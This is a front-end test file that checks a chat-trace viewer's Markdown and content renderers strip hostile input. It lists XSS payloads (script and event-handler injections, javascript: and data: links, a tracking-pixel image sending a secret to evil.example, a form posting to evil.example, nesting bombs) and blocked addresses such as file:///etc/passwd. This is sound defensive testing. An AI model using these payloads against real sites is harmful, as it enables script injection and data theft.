// @vitest-environment happy-dom
import type { Json } from "@telltale/model";
import type { ApiContent } from "@telltale/server/api-types";
import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { act, type ReactElement } from "react";
import { createRoot } from "react-dom/client";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { SUPPORT_TEXTS } from "../fixture/support-texts.ts";
import { TooltipProvider } from "../ui/tooltip.tsx";
import { ContentView, rendererList } from "./content-view.tsx";
import { Markdown } from "./markdown.tsx";
import { isInlineImage, safeLink } from "./safe-link.ts";

beforeAll(() => {
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });
});

let clean = (): void => undefined;

afterEach(() => clean());

function draw(element: ReactElement): HTMLElement {
  const box = document.createElement("div");
  document.body.append(box);
  const root = createRoot(box);
  act(() =>
    root.render(
      <QueryClientProvider client={new QueryClient()}>
        <TooltipProvider>{element}</TooltipProvider>
      </QueryClientProvider>,
    ),
  );
  clean = () => {
    act(() => root.unmount());
    box.remove();
  };
  return box;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\nscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "![a](https://evil.example/pixel.png?secret=1)",
  "![a](javascript:alert(1))",
  "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '[a](https://x.example "onmouseover=alert(1)")',
  "`<b onclick=alert(1)>`",
  "| <a href=javascript:alert(1)>x</a> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "<style>*{display:none}</style>",
  "<a href='https://x.example' onclick='alert(1)'>x</a>",
  "<form action=https://evil.example><input name=a></form>",
  "> ".repeat(3000),
  "- ".repeat(3000),
  "[".repeat(5000),
  "*_".repeat(5000),
];

function expectHarmless(box: HTMLElement): void {
  expect(
    box.querySelectorAll("script, style, iframe, object, embed, form, svg[onload], base, meta, link"),
  ).toHaveLength(0);
  for (const element of box.querySelectorAll("*"))
    for (const { name } of element.attributes)
      expect(name.startsWith("on"), `${element.tagName} has ${name}`).toBe(false);
  for (const link of box.querySelectorAll("a")) {
    expect(link.getAttribute("href")).toMatch(/^(https?:|mailto:)/);
    expect(link.getAttribute("rel")).toContain("noreferrer");
  }
  // No image is fetched before somebody asks for it.
  expect(box.querySelectorAll("img")).toHaveLength(0);
}

describe("Markdown of a stranger", () => {
  it.each(HOSTILE.map((text) => [text.slice(0, 60), text] as const))("does no harm: %s", (_, text) => {
    const box = draw(<Markdown text={text} />);
    expectHarmless(box);
    if (text.startsWith("<script")) expect(box.textContent).toContain("alert(1)");
  });

  it("is drawn with its structure", () => {
    const box = draw(<Markdown text={SUPPORT_TEXTS.answer} />);
    expect(box.querySelectorAll("ol > li")).toHaveLength(3);
    expect(box.querySelector("strong")?.textContent).toBe("you get the full amount back and keep the item.");
    expect(box.querySelectorAll("table td")).toHaveLength(4);
    expect(box.querySelector("a")?.getAttribute("href")).toBe("https://example.com/refunds-eu");
  });

  it("keeps code, tasks and quotes", () => {
    const box = draw(<Markdown text={"```ts\nconst a = '<b>';\n```\n- [x] done\n- [ ] open\n\n> said"} />);
    expect(box.querySelector("pre code")?.textContent).toBe("const a = '<b>';");
    expect(box.querySelectorAll("input[type=checkbox]")).toHaveLength(2);
    expect(box.querySelector("blockquote")?.textContent).toBe("said");
  });
});

describe("every renderer", () => {
  const hostile = HOSTILE.slice(0, 12).join("\n\n");
  const json: Json = { [hostile]: hostile, __proto__: null, list: [hostile, null, 1e308, true] };
  const contents: ApiContent[] = [
    { type: "text", text: hostile },
    { type: "text", text: JSON.stringify(json) },
    { type: "json", value: json },
    { type: "masked" },
    { type: "documents", documents: [{ id: hostile, content: hostile, score: Number.NaN, metadata: json }, {}] },
    { type: "documents", documents: [] },
    { type: "messages", messages: [] },
    {
      type: "messages",
      messages: [
        { role: hostile, name: hostile, finish_reason: hostile, parts: [] },
        {
          role: "assistant",
          parts: [
            { type: "text", content: hostile },
            { type: "reasoning", content: hostile },
            { type: "tool_call", id: hostile, name: hostile, arguments: hostile },
            { type: "tool_call_response", response: json },
            { type: "blob", mime_type: "image/svg+xml", content: "PHN2Zz4=" },
            { type: "blob", mime_type: "text/html", content: hostile },
            { type: "uri", uri: "javascript:alert(1)" },
            { type: "uri", uri: "https://evil.example/a.png", modality: "image" },
            { type: "file", file_id: hostile },
            { type: "generic", value: json },
          ],
        },
      ],
    },
  ];

  it.each(contents)("draws hostile $type without harm", (content) => {
    const box = draw(<ContentView content={content} label="Input" />);
    expectHarmless(box);
    expect(box.textContent).not.toBe("");
  });

  it("has a name and a rank of its own, and every type of content has one that fits", () => {
    expect(new Set(rendererList.map(({ name }) => name)).size).toBe(rendererList.length);
    expect(new Set(rendererList.map(({ rank }) => rank)).size).toBe(rendererList.length);
    for (const content of contents) expect(rendererList.some((renderer) => renderer.fits(content))).toBe(true);
  });

  it("tells what was not told from what was hidden", () => {
    expect(draw(<ContentView content={null} label="Input" />).textContent).toBe("Nobody told");
    expect(draw(<ContentView content={{ type: "masked" }} label="Input" />).textContent).toContain(
      "Hidden by the sender",
    );
  });

  it("shows the beginning of a long text and says how long it is", () => {
    const box = draw(<ContentView content={{ type: "text", text: "word ".repeat(100_000) }} label="Input" />);
    expect(box.textContent?.length).toBeLessThan(10_000);
    expect(box.textContent).toContain("500.0 kB, first 6.0 kB shown");
  });
});

describe("an address", () => {
  it.each(["https://a.example/b", "http://a.example", "mailto:a@b.example"])("may lead to %s", (address) => {
    expect(safeLink(address)).toBeDefined();
  });

  it.each([
    "javascript:1",
    " javascript:1",
    "data:text/html,1",
    "/relative",
    "//host",
    "file:///etc/passwd",
    "blob:x",
    "",
  ])("may not lead to %s", (address) => {
    expect(safeLink(address)).toBeUndefined();
  });

  it("of an image holds bytes only in formats that cannot run anything", () => {
    expect(isInlineImage("data:image/png;base64,iVBORw0=")).toBe(true);
    expect(isInlineImage("data:image/svg+xml;base64,AAAA")).toBe(false);
    expect(isInlineImage("data:text/html;base64,AAAA")).toBe(false);
    expect(isInlineImage("https://a.example/a.png")).toBe(false);
  });
});
